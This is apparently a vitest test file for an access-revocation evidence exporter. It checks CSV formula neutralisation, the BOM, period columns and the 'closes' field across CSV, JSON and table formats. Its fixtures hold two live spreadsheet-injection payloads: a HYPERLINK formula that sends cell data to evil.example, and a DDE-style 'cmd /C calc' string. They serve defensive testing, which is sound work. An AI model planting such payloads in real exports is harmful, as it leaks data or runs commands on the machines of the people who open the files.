/**
 * The evidence exports as an auditor opens them: a CSV that a spreadsheet cannot turn into a
 * formula, that Excel reads as UTF-8, and that says its period and when it was made; and, in
 * every format, what each revocation closed.
 */
import { describe, expect, it } from 'vitest';
import type {
  ApplicationEvidence,
  EvidenceReport,
  LeaverEvidence,
} from '../../../shared/evidence/evidence.ts';
import {
  csvField,
  formatEvidenceReport,
  formatLeaverEvidence,
} from '../../../shared/evidence/evidence-format.ts';

const BOM = '\uFEFF';

function app(overrides: Partial<ApplicationEvidence>): ApplicationEvidence {
  return {
    connectorId: 'github',
    application: 'GitHub',
    expected: true,
    status: 'revoked',
    done: true,
    why: 'Removed ada from the acme organization.',
    at: '2026-03-02T09:00:02.000Z',
    attempts: 1,
    closes: ['login', 'sessions', 'apiTokens', 'seat'],
    history: [],
    ...overrides,
  };
}

const ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

const leaver: LeaverEvidence = {
  directoryId: 'default',
  user: { userId: 'u-1', userName: ATTACK, displayName: 'Ada Lovelace' },
  deactivatedAt: '2026-03-02T09:00:00.000Z',
  leftAt: '2026-03-02T09:00:00.000Z',
  state: 'left',
  complete: false,
  applications: [
    app({}),
    app({
      connectorId: 'zoom',
      application: 'Zoom',
      status: 'failed_permanent',
      done: false,
      closes: [],
      why: '@SUM(1+1)*cmd|" /C calc"!A0',
    }),
    app({ connectorId: 'erp', application: 'Legacy ERP', status: 'confirmed', closes: [], why: '-2+3' }),
  ],
};

const report: EvidenceReport = {
  directoryId: 'default',
  since: '2026-01-01T00:00:00.000Z',
  until: '2026-04-01T00:00:00.000Z',
  generatedAt: '2026-04-02T08:30:00.000Z',
  leavers: [leaver],
  complete: 0,
  incomplete: 1,
  returned: 0,
};

/** The cells of a CSV line, RFC 4180 quoting undone (enough for these rows). */
function cells(line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)]
    .filter((match) => match.index < line.length || match[1] !== '')
    .map((match) => {
      const cell = match[1] ?? '';
      return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
    });
}

describe('evidence CSV', () => {
  it('neutralises every cell a spreadsheet would read as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvField(`${start}1+1`).replace(/^"/, '')).toMatch(/^'/);
    expect(csvField('ada@example.com')).toBe('ada@example.com');
    expect(csvField('Lovelace, "Ada"')).toBe('"Lovelace, ""Ada"""');

    const csv = formatEvidenceReport(report, 'csv');
    const rows = csv.replace(BOM, '').split('\n').map(cells);
    const header = rows[0] ?? [];
    const column = (name: string) => header.indexOf(name);
    const [github, zoom, erp] = rows.slice(1);
    expect(github?.[column('userName')]).toBe(`'${ATTACK}`);
    expect(zoom?.[column('why')]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(erp?.[column('why')]).toBe("'-2+3");
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('starts with a UTF-8 BOM and says its period and when it was generated on every row', () => {
    const csv = formatEvidenceReport(report, 'csv');
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.indexOf(BOM, 1)).toBe(-1);
    const [header, ...rows] = csv.slice(1).split('\n').map(cells);
    expect(header?.slice(-3)).toEqual(['periodSince', 'periodUntil', 'generatedAt']);
    for (const row of rows) expect(row.slice(-3)).toEqual([report.since, report.until, report.generatedAt]);

    const one = formatLeaverEvidence(leaver, 'csv', '2026-04-02T09:00:00.000Z');
    expect(one.startsWith(BOM)).toBe(true);
    expect(cells(one.slice(1).split('\n')[1] ?? '').slice(-3)).toEqual(['', '', '2026-04-02T09:00:00.000Z']);
  });

  it('has the closes column per application: the list claimed, empty when nothing was', () => {
    const [header, ...rows] = formatLeaverEvidence(leaver, 'csv').slice(1).split('\n').map(cells);
    const at = header?.indexOf('closes') ?? -1;
    expect(at).toBeGreaterThan(-1);
    expect(rows.map((row) => row[at])).toEqual(['login sessions apiTokens seat', '', '']);
  });
});

describe('what a revocation closed, in the other formats', () => {
  it('shows it in the JSON and the table of one leaver', () => {
    const json = JSON.parse(formatLeaverEvidence(leaver, 'json')) as LeaverEvidence;
    expect(json.applications.map((one) => one.closes)).toEqual([
      ['login', 'sessions', 'apiTokens', 'seat'],
      [],
      [],
    ]);
    const table = formatLeaverEvidence(leaver, 'table');
    expect(table).toMatch(/^application\s+connector\s+status\s+closes\s+at/m);
    expect(table).toMatch(/^GitHub\s+github\s+revoked\s+login, sessions, apiTokens, seat\s+2026/m);
    // Confirmed without saying what it closed: the table says so instead of guessing.
    expect(table).toMatch(/^Legacy ERP\s+erp\s+confirmed\s+not stated\s+/m);
    expect(table).toMatch(/^Zoom\s+zoom\s+failed_permanent\s+-\s+/m);
  });

  it('shows it in the period report, with when the report was generated', () => {
    const table = formatEvidenceReport(report, 'table');
    expect(table).toContain('Generated 2026-04-02T08:30:00.000Z');
    expect(table).toContain(`  ${ATTACK}  GitHub (github): login, sessions, apiTokens, seat`);
    expect(table).toContain(`  ${ATTACK}  Legacy ERP (erp): not stated`);
    const json = JSON.parse(formatEvidenceReport(report, 'json')) as EvidenceReport;
    expect(json.leavers[0]?.applications[0]?.closes).toEqual(['login', 'sessions', 'apiTokens', 'seat']);
  });
});
